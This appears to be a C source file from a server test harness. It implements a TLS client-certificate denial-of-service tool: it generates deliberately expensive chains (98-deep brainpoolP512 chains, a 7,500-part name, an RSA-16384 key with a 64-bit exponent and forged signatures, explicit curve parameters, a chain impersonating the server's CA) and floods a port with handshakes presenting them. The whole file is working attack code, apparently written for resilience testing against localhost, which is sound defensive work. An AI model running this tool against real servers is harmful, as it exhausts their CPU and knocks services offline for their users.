/*
 * TLS clients that complete handshakes with certificate chains that an honest client never has.
 *
 *     chains make DIR CA.pem      writes DIR/NAME.pem for each chain, and the key of all their leaves, DIR/leaf.pem
 *     chains run port=N [seconds=N] [rate=N] [sources=N] [connections=N] [end=close|hold] chain=FILE key=FILE
 *
 * The chains: `deep`, 98 certificates with brainpoolP512 keys that lead nowhere; `names`, one of 90 KB with 7,500 name parts; `rsa` and
 * `explicit`, as short as an honest one, with keys of RSA-16384 (and an exponent of 64 bits) and with explicit curve
 * parameters; `impostor`, as deep as the first and
 * issued by the name of the CA in CA.pem, with a key that isn't its own. Leaves have a P-256 key, so that they cost the attacker little.
 *
 * `run` opens connections at a rate from 127.107.x.y, completes the handshake, asks for /health and waits for the answer: then the server has
 * read the chain. It then closes, or stays.
 *
 * compiled by scripts/attack:  cc -O2 -o chains chains.c $(pkg-config --cflags --libs openssl)
 */
#include "attack.h"
#include <openssl/err.h>
#include <openssl/param_build.h>
#include <openssl/pem.h>
#include <openssl/rand.h>
#include <openssl/rsa.h>
#include <openssl/ssl.h>
#include <openssl/x509v3.h>

enum {
	net = 107,
	DEEP = 98,
	SHORT = 3,
	NAME_PARTS = 7500,
	RSA_BITS = 16384,
};

static void fail(const char *what)
{
	fprintf(stderr, "chains: %s\n", what);
	ERR_print_errors_fp(stderr);
	exit(1);
}

/* ---- make --------------------------------------------------------------------------------------------------------- */

static EVP_PKEY *curve_key(const char *curve, bool is_explicit)
{
	EVP_PKEY_CTX *context = EVP_PKEY_CTX_new_from_name(NULL, "EC", NULL);
	EVP_PKEY *key = NULL;
	OSSL_PARAM encoding[] = {
		OSSL_PARAM_utf8_string("encoding", is_explicit ? "explicit" : "named_curve", 0), OSSL_PARAM_END };

	if (!context || EVP_PKEY_keygen_init(context) != 1 || EVP_PKEY_CTX_set_group_name(context, curve) != 1)
		fail(curve);
	encoding[0].data_size = strlen(encoding[0].data);
	if (EVP_PKEY_CTX_set_params(context, encoding) != 1 || EVP_PKEY_generate(context, &key) != 1)
		fail(curve);
	EVP_PKEY_CTX_free(context);
	return key;
}

/*
 * A public key of the longest modulus and exponent that OpenSSL calculates with. Nobody has its private key, as finding primes takes minutes:
 * whoever verifies a signature pays all the same before he sees that it is wrong.
 */
static EVP_PKEY *rsa_key(void)
{
	EVP_PKEY_CTX *context = EVP_PKEY_CTX_new_from_name(NULL, "RSA", NULL);
	OSSL_PARAM_BLD *builder = OSSL_PARAM_BLD_new();
	BIGNUM *modulus = BN_new(), *exponent = NULL;
	EVP_PKEY *key = NULL;

	BN_rand(modulus, RSA_BITS, BN_RAND_TOP_ONE, BN_RAND_BOTTOM_ODD);
	BN_hex2bn(&exponent, "FFFFFFFFFFFFFFFF");
	OSSL_PARAM_BLD_push_BN(builder, "n", modulus);
	OSSL_PARAM_BLD_push_BN(builder, "e", exponent);
	if (EVP_PKEY_fromdata_init(context) != 1 ||
	    EVP_PKEY_fromdata(context, &key, EVP_PKEY_PUBLIC_KEY, OSSL_PARAM_BLD_to_param(builder)) != 1)
		fail("an RSA key");
	EVP_PKEY_CTX_free(context);
	return key;
}

/* In place of a signature, random bytes of the length that the key has. */
static void forge_signature(X509 *certificate)
{
	static unsigned char bytes[RSA_BITS / 8];
	const ASN1_BIT_STRING *signature;

	if (RAND_bytes(bytes + 1, sizeof(bytes) - 1) != 1)
		fail("random bytes");
	X509_get0_signature(&signature, NULL, certificate);
	ASN1_STRING_set((ASN1_STRING *)signature, bytes, sizeof(bytes));
}

static X509_NAME *name(const char *text)
{
	X509_NAME *name = X509_NAME_new();

	X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_ASC, (const unsigned char *)text, -1, -1, 0);
	return name;
}

static X509 *issue(X509_NAME *subject, EVP_PKEY *key, X509_NAME *issuer, EVP_PKEY *signer, bool is_authority)
{
	X509 *certificate = X509_new();

	X509_set_version(certificate, X509_VERSION_3);
	ASN1_INTEGER_set(X509_get_serialNumber(certificate), time(NULL));
	X509_gmtime_adj(X509_getm_notBefore(certificate), -24 * 60 * 60);
	X509_gmtime_adj(X509_getm_notAfter(certificate), 7 * 24 * 60 * 60);
	X509_set_subject_name(certificate, subject);
	X509_set_issuer_name(certificate, issuer);
	X509_set_pubkey(certificate, key);
	if (is_authority) {
		X509_EXTENSION *extension = X509V3_EXT_conf_nid(NULL, NULL, NID_basic_constraints, "critical,CA:TRUE");

		X509_add_ext(certificate, extension, -1);
		X509_EXTENSION_free(extension);
	}
	if (!X509_sign(certificate, signer, EVP_sha256()))
		fail("a signature");
	return certificate;
}

static FILE *create(const char *folder, const char *stem)
{
	char path[4096];
	FILE *file;

	snprintf(path, sizeof(path), "%s/%s.pem", folder, stem);
	if (!(file = fopen(path, "w")))
		fail(path);
	return file;
}

/*
 * The leaf first, then its issuers, all of which have the key `authority`; the topmost is issued by `top`, which isn't among them.
 *
 * signer: whose signatures they bear; where that isn't the authority's key, they are forged.
 */
static void write_chain(const char *folder, const char *stem, int length, EVP_PKEY *leaf, EVP_PKEY *authority,
			EVP_PKEY *signer, X509_NAME *top)
{
	FILE *file = create(folder, stem);
	X509_NAME *subject = name("a stranger");

	for (int i = 0; i < length; i++) {
		char text[64];
		X509_NAME *issuer;
		X509 *certificate;

		snprintf(text, sizeof(text), "authority %d of %d", i + 1, length);
		issuer = i == length - 1 ? X509_NAME_dup(top) : name(text);
		certificate = issue(subject, i == 0 ? leaf : authority, issuer, signer, i > 0);
		if (signer != authority)
			forge_signature(certificate);
		PEM_write_X509(file, certificate);
		X509_free(certificate);
		X509_NAME_free(subject);
		subject = issuer;
	}
	X509_NAME_free(subject);
	fclose(file);
}

static void write_names(const char *folder, EVP_PKEY *leaf)
{
	FILE *file = create(folder, "names");
	X509_NAME *subject = X509_NAME_new(), *issuer = name("nobody");
	X509 *certificate;

	for (int i = 0; i < NAME_PARTS; i++)
		X509_NAME_add_entry_by_NID(subject, NID_commonName, MBSTRING_ASC, (const unsigned char *)"a", 1, -1, 0);
	certificate = issue(subject, leaf, issuer, leaf, false);
	PEM_write_X509(file, certificate);
	X509_free(certificate);
	X509_NAME_free(subject);
	X509_NAME_free(issuer);
	fclose(file);
}

static int make_all(const char *folder, const char *authority_path)
{
	EVP_PKEY *leaf = curve_key("P-256", false), *brainpool = curve_key("brainpoolP512r1", false);
	EVP_PKEY *is_explicit = curve_key("brainpoolP512r1", true), *rsa = EVP_RSA_gen(2048);
	FILE *file = fopen(authority_path, "r");
	X509 *authority = file ? PEM_read_X509(file, NULL, NULL, NULL) : NULL;
	X509_NAME *nobody = name("nobody");

	if (!authority)
		fail(authority_path);
	fclose(file);
	file = create(folder, "leaf");
	PEM_write_PrivateKey(file, leaf, NULL, NULL, 0, NULL, NULL);
	fclose(file);
	write_chain(folder, "deep", DEEP, leaf, brainpool, brainpool, nobody);
	write_chain(folder, "impostor", DEEP, leaf, brainpool, brainpool, X509_get_subject_name(authority));
	write_chain(folder, "explicit", SHORT, leaf, is_explicit, is_explicit, nobody);
	write_chain(folder, "rsa", SHORT, leaf, rsa_key(), rsa, nobody);
	write_names(folder, leaf);
	return 0;
}

/* ---- run ---------------------------------------------------------------------------------------------------------- */

static struct connection {
	SSL *ssl;
	int file;
	bool is_asked, is_answered;
	double since;
} connections[MAX_CONNECTIONS];

static int free_count, free_list[MAX_CONNECTIONS], poll_file;
static bool stays;
static SSL_CTX *context;

/* What the connection has carried, TLS included. */
static void count_bytes(const struct connection *connection)
{
	figures.sent += BIO_number_written(SSL_get_wbio(connection->ssl));
	figures.received += BIO_number_read(SSL_get_rbio(connection->ssl));
}

static void end(struct connection *connection)
{
	if (!connection->is_answered)
		figures.refused++;
	count_bytes(connection);
	SSL_free(connection->ssl);
	close(connection->file);
	connection->ssl = NULL;
	ERR_clear_error();
	free_list[free_count++] = (int)(connection - connections);
}

static void open_one(double time)
{
	struct connection *connection;
	struct epoll_event event = { .events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET };
	int file = dial(net, figures.opened);

	if (file < 0)
		return;
	figures.opened++;
	connection = &connections[free_list[--free_count]];
	*connection = (struct connection){ .ssl = SSL_new(context), .file = file, .since = time };
	if (!connection->ssl || SSL_set_fd(connection->ssl, file) != 1)
		fail("a client");
	SSL_set_tlsext_host_name(connection->ssl, "localhost");
	SSL_set_connect_state(connection->ssl);
	event.data.ptr = connection;
	epoll_ctl(poll_file, EPOLL_CTL_ADD, file, &event);
}

/* Returns whether the connection may go on. */
static bool step(struct connection *connection)
{
	char bytes[MAX_READ];
	int result;

	if (!connection->is_asked) {
		int count = snprintf(bytes, sizeof(bytes), "GET /health HTTP/1.1\r\nHost: localhost:%d\r\n\r\n", (int)options.port);

		/* The handshake comes before it. */
		result = SSL_write(connection->ssl, bytes, count);
		connection->is_asked = result > 0;
		if (result <= 0)
			return SSL_get_error(connection->ssl, result) == SSL_ERROR_WANT_READ ||
			       SSL_get_error(connection->ssl, result) == SSL_ERROR_WANT_WRITE;
	}
	while ((result = SSL_read(connection->ssl, bytes, sizeof(bytes))) > 0) {
		if (!connection->is_answered)
			figures.answered++;
		connection->is_answered = true;
		if (!stays)
			return false;
	}
	return SSL_get_error(connection->ssl, result) == SSL_ERROR_WANT_READ;
}

static void give_up(double time)
{
	for (int i = 0; i < (int)options.connections; i++)
		if (connections[i].ssl && !connections[i].is_answered && connections[i].since < time - stuck_after)
			end(&connections[i]);
}

static void prepare(const char *chain, const char *key)
{
	context = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_security_level(context, 0);
	SSL_CTX_set_verify(context, SSL_VERIFY_NONE, NULL);
	SSL_CTX_set_mode(context, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
	if (SSL_CTX_set1_groups_list(context, "X25519") != 1 || SSL_CTX_use_certificate_chain_file(context, chain) != 1 ||
	    SSL_CTX_use_PrivateKey_file(context, key, SSL_FILETYPE_PEM) != 1)
		fail(chain);
	poll_file = epoll_create1(EPOLL_CLOEXEC);
	for (int i = (int)options.connections; i > 0; i--)
		free_list[free_count++] = i - 1;
}

static void run(void)
{
	struct epoll_event events[MAX_EVENTS];
	double due, finish;

	begin();
	due = figures.started;
	finish = due + options.seconds;
	for (double time = due; time < finish; time = now()) {
		while (due <= time && free_count > 0) {
			open_one(time);
			due = next_due(due, time);
		}
		give_up(time);
		int wait = due > time && due - time < 0.05 ? (int)((due - time) * 1e3) + 1 : 50;
		int count = epoll_wait(poll_file, events, MAX_EVENTS, wait);

		for (int i = 0; i < count; i++) {
			struct connection *connection = events[i].data.ptr;

			if (connection->ssl && !step(connection))
				end(connection);
		}
	}
	for (int i = 0; i < (int)options.connections; i++)
		if (connections[i].ssl)
			count_bytes(&connections[i]);
	report();
}

int main(int count, char **arguments)
{
	const char *chain = NULL, *key = NULL, *value;

	if (count == 4 && !strcmp(arguments[1], "make"))
		return make_all(arguments[2], arguments[3]);
	for (int i = 2; i < count; i++) {
		if (take_common(arguments[i]))
			continue;
		if ((value = value_of(arguments[i], "chain")))
			chain = value;
		else if ((value = value_of(arguments[i], "key")))
			key = value;
		else if ((value = value_of(arguments[i], "end")))
			stays = !strcmp(value, "hold");
		else
			chain = key = NULL;
	}
	if (count < 2 || strcmp(arguments[1], "run") || !chain || !key || !options.port) {
		fprintf(stderr, "usage: chains make DIR CA.pem | chains run port=N [NAME=VALUE…] chain=FILE key=FILE\n");
		return EX_USAGE;
	}
	prepare(chain, key);
	run();
	return 0;
}
